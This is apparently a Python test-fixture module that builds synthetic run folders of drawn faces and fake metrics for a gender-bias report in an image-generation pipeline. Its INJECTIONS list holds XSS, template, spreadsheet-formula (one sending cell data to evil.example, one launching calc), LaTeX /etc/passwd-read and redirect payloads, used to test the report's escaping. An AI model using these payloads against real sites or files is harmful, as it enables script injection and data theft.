"""Builds run folders of drawn faces with the real schemas, for tests of the report and for looking at it.

    python -m tests.pipeline.report.fixture_run build/report-look --prompts 20 --images 4

The numbers are consistent with each other (the accounting identities hold) but mean nothing.
"""

from __future__ import annotations

import argparse
import functools
import hashlib
import io
import json
import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
from PIL import Image, ImageDraw

from allfour.pipeline import statistics
from allfour.pipeline.config import Reference, ReferencePrompt
from allfour.pipeline.metrics.calibration import Calibration
from allfour.pipeline.metrics.compute import compute_metrics
from allfour.pipeline.metrics.tallies import tally
from allfour.pipeline.run.columns import AMBIGUOUS, IMAGES_SCHEMA, NO_PERSON, SCORES_SCHEMA, UNREADABLE
from allfour.pipeline.run.folder import RunFolder

SHE = [
    "homemaker",
    "nurse",
    "receptionist",
    "librarian",
    "socialite",
    "hairdresser",
    "nanny",
    "bookkeeper",
    "stylist",
    "housekeeper",
]
HE = [
    "maestro",
    "skipper",
    "protege",
    "philosopher",
    "captain",
    "architect",
    "financier",
    "warrior",
    "broadcaster",
    "magician",
]
GENDER = ["woman", "man"]
RACE = ["White", "Black", "Latino_Hispanic", "East Asian", "Southeast Asian", "Indian", "Middle Eastern"]
AGE = ["0-2", "3-9", "10-19", "20-29", "30-39", "40-49", "50-59", "60-69", "70+"]
LABELS = {"gender": GENDER, "race": RACE, "age": AGE}

INJECTIONS = [
    "</script><script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    '"><svg onload=window.pwned=1>',
    "'; window.pwned=1; //",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "javascript:window.pwned=1",
    "</style><style>body{display:none}</style>",
    "<!-- <script> --> ]]> &lt;b&gt;",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1\u2028-1\u2029\u202egnp.exe\u0000\u001b[31m",
    "\\textbf{\\input{/etc/passwd}} $x$ | a | b |",
    "[click](javascript:window.pwned=1) ![x](http://evil.example/x.png)",
    "<iframe src=http://evil.example></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
]


@dataclass
class Options:
    """What the run should hold."""

    prompts: int = 20
    images: int = 4
    hostile: bool = False
    drawn_world: bool = False
    references: bool = False
    corrected: bool = False
    thumbnails: bool = False
    pictures: bool = True
    """Write image files; without them every row names a path that does not exist."""
    oddities: bool = True
    """Refused, failed, unreadable, faceless, unclear and duplicate images."""
    size: int = 192
    seed: int = 1
    photos: Path | None = None
    """Use these pictures instead of drawn ones; for looking at the page, never in tests."""


@dataclass
class _Tables:
    images: list[dict[str, Any]] = field(default_factory=list)
    scores: list[dict[str, Any]] = field(default_factory=list)
    thumbnails: list[dict[str, Any]] = field(default_factory=list)


@functools.cache
def _small_jpeg(data: bytes) -> bytes:
    buffer = io.BytesIO()
    Image.open(io.BytesIO(data)).convert("RGB").resize((160, 160)).save(buffer, "JPEG", quality=70)
    return buffer.getvalue()


@functools.cache
def draw_face(name: str, *, woman: bool, size: int) -> bytes:
    """A simple drawn head as PNG, the same for the same name."""
    rng = random.Random(name)
    image = Image.new("RGB", (size, size), tuple(rng.randint(150, 225) for _ in range(3)))
    draw = ImageDraw.Draw(image)
    u = size / 100
    hair = rng.choice([(40, 30, 25), (90, 60, 30), (190, 150, 80), (120, 120, 125)])
    skin = rng.choice([(245, 215, 190), (225, 180, 145), (170, 120, 85), (110, 75, 55)])
    if woman:
        draw.ellipse((20 * u, 14 * u, 80 * u, 90 * u), fill=hair)
    draw.rounded_rectangle(
        (16 * u, 76 * u, 84 * u, 120 * u), 16 * u, fill=tuple(rng.randint(40, 160) for _ in range(3))
    )
    draw.rectangle((44 * u, 62 * u, 56 * u, 82 * u), fill=skin)
    draw.ellipse((30 * u, 24 * u, 70 * u, 74 * u), fill=skin)
    draw.pieslice((28 * u, 18 * u, 72 * u, 62 * u), 180, 360, fill=hair)
    for x in (42, 58):
        draw.ellipse(((x - 2.5) * u, 46 * u, (x + 2.5) * u, 51 * u), fill=(30, 30, 35))
    draw.arc((43 * u, 52 * u, 57 * u, 66 * u), 20, 160, fill=(120, 50, 50), width=max(1, int(u * 1.5)))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def _softmax_like(rng: random.Random, labels: list[str], winner: str, top: float) -> dict[str, float]:
    rest = [rng.random() + 0.05 for label in labels if label != winner]
    scale = (1 - top) / sum(rest)
    others = iter(value * scale for value in rest)
    return {label: top if label == winner else next(others) for label in labels}


def _score(
    prompt_id: str, index: int, attribute: str, decision: str, probabilities: dict[str, float], person: int = 0
) -> dict[str, Any]:
    ranked = sorted(probabilities.values(), reverse=True)
    return {
        "prompt_id": prompt_id,
        "index": index,
        "person": person,
        "attribute": attribute,
        "decision": decision,
        "probability": ranked[0] if ranked else None,
        "margin": ranked[0] - ranked[1] if len(ranked) > 1 else None,
        "probabilities": list(probabilities.items()),
        "box": None,
    }


def _prompt_texts(options: Options) -> list[tuple[str, str, str, float]]:
    rng = random.Random(options.seed)
    named = [(name, "extreme-she") for name in SHE] + [(name, "extreme-he") for name in HE]
    rows = []
    for number in range(options.prompts):
        name, group = named[number] if number < len(named) else (f"occupation {number:05d}", None)
        text = name if number % 3 else f"a photo of a {name}"
        if options.hostile:
            text = INJECTIONS[number % len(INJECTIONS)] + (f" {number}" if number >= len(INJECTIONS) else "")
            group = f"<b>{group}</b><script>window.pwned=1</script>"
        base = rng.random()
        share = {"extreme-she": 0.93, "extreme-he": 0.06}.get(str(group), base)
        if name in ("socialite", "stylist", "protege", "philosopher"):
            share = 0.5
        rows.append((f"{number:05d}-{name.replace(' ', '-')}", text, group, share))
    return rows


def build_run(folder: Path, options: Options | None = None) -> Path:
    """Write a whole run folder and return it."""
    options = options or Options()
    rng = random.Random(options.seed)
    folder.mkdir(parents=True, exist_ok=True)
    photos = sorted(options.photos.rglob("*.jpg")) if options.photos else []
    prompts = _prompt_texts(options)
    tables = _Tables()
    for number, (prompt_id, text, group, share) in enumerate(prompts):
        for index in range(options.images):
            _image(tables, folder, options, rng, photos, number, (prompt_id, text, group), index, share)
    pq.write_table(pa.Table.from_pylist(tables.images, schema=IMAGES_SCHEMA), folder / "images.parquet")
    pq.write_table(pa.Table.from_pylist(tables.scores, schema=SCORES_SCHEMA), folder / "scores.parquet")
    if options.thumbnails:
        of = {(row["prompt_id"], row["index"]): row["sha256"] for row in tables.images}
        rows = [{**row, "sha256": of[row["prompt_id"], row["index"]]} for row in tables.thumbnails]
        pq.write_table(pa.Table.from_pylist(rows), folder / "thumbnails.parquet")
    metrics = build_metrics(folder, prompts, options)
    (folder / "metrics.json").write_text(json.dumps(metrics), encoding="utf-8")
    (folder / "run.json").write_text(json.dumps(_header(options, metrics)), encoding="utf-8")
    return folder


def _image(
    tables: _Tables,
    folder: Path,
    options: Options,
    rng: random.Random,
    photos: list[Path],
    number: int,
    prompt: tuple[str, str, str],
    index: int,
    share: float,
) -> None:
    prompt_id, text, group = prompt
    status, code, error = "generated", None, None
    kind = "plain"
    if options.oddities:
        spot = (number, index)
        kind = {
            (4, 3): "refused",
            (11, 2): "failed",
            (12, 1): "unreadable",
            (14, 0): "ambiguous",
            (7, 2): "no_person",
            (15, 3): "mixed",
            (3, 1): "duplicate",
        }.get(spot, "plain")
    if kind == "refused":
        status, code, error = "refused", "content_policy_violation", "Your request was rejected by the safety system."
    elif kind == "failed":
        status, error = "failed", "500: the server had an error while processing your request"
    elif kind == "unreadable":
        status, error = "unreadable", "truncated JPEG: 12 of 8192 bytes"
    if options.hostile and status != "generated":
        error, code = f"{INJECTIONS[1]} {INJECTIONS[0]}", INJECTIONS[2]
    woman = rng.random() < share
    path = f"images/{prompt_id}/{index}.png" if not options.hostile else f'images/{prompt_id}/"onerror=x {index}.png'
    data = b""
    if status == "generated":
        if photos:
            data = photos[(number * options.images + index) % len(photos)].read_bytes()
        elif options.pictures or options.thumbnails:
            face = f"{number}-{0 if kind == 'duplicate' else index}" if options.pictures else str(index % 8)
            data = draw_face(face, woman=woman, size=options.size)
        if options.pictures:
            target = folder / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
        if options.thumbnails:
            jpeg = _small_jpeg(data)
            tables.thumbnails.append({"prompt_id": prompt_id, "index": index, "jpeg": jpeg})
        if not options.pictures:  # a few faces stand for all, so that large runs are made fast
            data = f"{number}-{index}".encode()
    tables.images.append(
        {
            "prompt_id": prompt_id,
            "prompt": text,
            "group": group,
            "index": index,
            "seed": 1000 * number + index,
            "status": status,
            "path": path if status in ("generated", "unreadable") else None,
            "sha256": hashlib.sha256(data).hexdigest() if data else None,
            "size": len(data) or None,
            "width": options.size if data else None,
            "height": options.size if data else None,
            "revised_prompt": INJECTIONS[0] if options.hostile else None,
            "code": code,
            "error": error,
            "truth": [("gender", "woman" if woman else "man")] if options.drawn_world else [],
            "extra": [(INJECTIONS[1], INJECTIONS[0])] if options.hostile else [],
        }
    )
    if status == "unreadable":
        tables.scores += [_score(prompt_id, index, attribute, UNREADABLE, {}) for attribute in LABELS]
    if status != "generated":
        return
    for attribute, labels in LABELS.items():
        winner = (
            ("woman" if woman else "man")
            if attribute == "gender"
            else rng.choices(
                labels,
                weights=[9, 1.2, 1, 1.4, 0.3, 0.8, 0] if attribute == "race" else [0, 0, 0.3, 4, 5, 2, 1, 0.5, 0.2],
            )[0]
        )
        top = 0.56 + 0.43 * rng.random() ** 0.4
        decision = winner
        if kind == "no_person":
            decision = NO_PERSON
        elif kind == "ambiguous" and attribute == "gender":
            top, decision = 0.53, AMBIGUOUS
        tables.scores.append(_score(prompt_id, index, attribute, decision, _softmax_like(rng, labels, winner, top)))
        if kind == "mixed" and attribute == "gender":
            other = "man" if winner == "woman" else "woman"
            tables.scores.append(_score(prompt_id, index, attribute, other, {other: 0.91, winner: 0.09}, person=1))
    tables.scores.append(
        _score(
            prompt_id,
            index,
            "presence",
            "no_person" if kind == "no_person" else "person",
            {"person": 0.2 if kind == "no_person" else 0.97, "no_person": 0.8 if kind == "no_person" else 0.03},
        )
    )


def made_up_calibration(options: Options) -> Calibration:
    """Error rates of a classifier that errs more with some groups."""

    def quality(images: int, right: int) -> dict[str, Any]:
        return {
            "images": images,
            "accuracy": statistics.wilson(right, images).to_dict(),
            "labelled": statistics.wilson(images, images).to_dict(),
        }

    marks = INJECTIONS[0] if options.hostile else ""
    groups = {"younger": quality(500, 488), "older" + marks: quality(400, 361), "lighter": quality(100, 93)}
    gap = {"best": "younger", "worst": "older" + marks, "difference": 0.073, "p_value": 1e-5, "groups": 3}
    gender = {
        "labels": GENDER,
        "confusion": {"woman": {"woman": 480, "man": 20}, "man": {"woman": 30, "man": 470}},
        **quality(1000, 950),
        "groups": {"age" + marks: groups},
        "disparities": {"age" + marks: gap},
    }
    dataset = {"location": "a labelled set" + marks, "layout": "manifest", "images": 1000, "note": marks or None}
    return Calibration(
        {"dataset": dataset, "created": "2026-05-01", "binding": {"kind": "exact"}, "attributes": {"gender": gender}}
    )


def build_metrics(folder: Path, prompts: list[tuple[str, str, str | None, float]], options: Options) -> dict[str, Any]:
    """metrics.json over the tables, by the pipeline's own code."""
    reference = None
    if options.references:
        shares = {pid: ReferencePrompt(shares={"gender": {"woman": share}}) for pid, _, _, share in prompts}
        reference = Reference(name="planted", source="the fixture", planted=options.drawn_world, prompts=shares)
    run = RunFolder(folder)
    tallies = tally(run, attributes=list(LABELS), set_size=4)
    metrics = compute_metrics(
        tallies,
        labels=LABELS,
        headline="gender",
        set_size=4,
        reference=reference,
        calibration=made_up_calibration(options) if options.corrected else None,
    ).document()
    if options.hostile:
        metrics["notes"] += [{"code": "hostile", "text": text} for text in INJECTIONS]
        metrics["warnings"] = [note["text"] for note in metrics["notes"]]
    return metrics


def _header(options: Options, metrics: dict[str, Any]) -> dict[str, Any]:
    hostile = INJECTIONS[0] if options.hostile else ""
    backend = "portrait-renderer" if options.drawn_world else "stable-diffusion"
    return {
        "format": 1,
        "name": "a run" + hostile,
        "created": "2026-05-20T10:00:00+00:00",
        "finished": "2026-05-20T10:03:10+00:00",
        "config": {
            "seed": options.seed,
            "prompts": {
                "file": "configs/prompts/bolukbasi-extremes.yaml",
                "images_per_prompt": options.images,
                "set_size": 4,
            },
            "generator": {"backend": backend + hostile},
            hostile or "extra": hostile or None,
        },
        "versions": {"allfour": "0.1.0", "python": "3.11.7", "torch": "2.11.0", "open_clip_torch": "3.3.0"},
        "git": {"commit": "c51004f5d2ad0a3c2f6b3c9de1d1c0a9c1b6a7e2", "dirty": True},
        "generator": {"backend": backend, "model": "a drawn world" if options.drawn_world else "some model" + hostile},
        "classifier": {
            "backend": "clip",
            "model": "ViT-L-14",
            "pretrained": "openai" + hostile,
            "weights_sha256": hashlib.sha256(b"weights").hexdigest(),
            "wording_sha256": hashlib.sha256(b"wording").hexdigest(),
            "preprocessing": {"size": 224, "interpolation": "bicubic"},
        },
        "counts": metrics["accounting"],
        "stages": {
            "images": {"fingerprint": "ab12" * 16, "seconds": 61.2},
            "scores": {"fingerprint": "cd34" * 16, "seconds": 12.9},
            "metrics": {"fingerprint": "ef56" * 16, "seconds": 0.3},
        },
        "notice": hostile or None,
    }


def main() -> None:
    """Build a run folder from the command line."""
    parser = argparse.ArgumentParser()
    parser.add_argument("folder", type=Path)
    parser.add_argument("--prompts", type=int, default=20)
    parser.add_argument("--images", type=int, default=4)
    parser.add_argument("--size", type=int, default=192)
    parser.add_argument("--photos", type=Path)
    for flag in ("hostile", "drawn-world", "references", "corrected", "thumbnails", "no-pictures"):
        parser.add_argument(f"--{flag}", action="store_true")
    arguments = parser.parse_args()
    build_run(
        arguments.folder,
        Options(
            prompts=arguments.prompts,
            images=arguments.images,
            size=arguments.size,
            hostile=arguments.hostile,
            drawn_world=arguments.drawn_world,
            references=arguments.references,
            corrected=arguments.corrected,
            thumbnails=arguments.thumbnails,
            pictures=not arguments.no_pictures,
            photos=arguments.photos,
        ),
    )


if __name__ == "__main__":
    main()
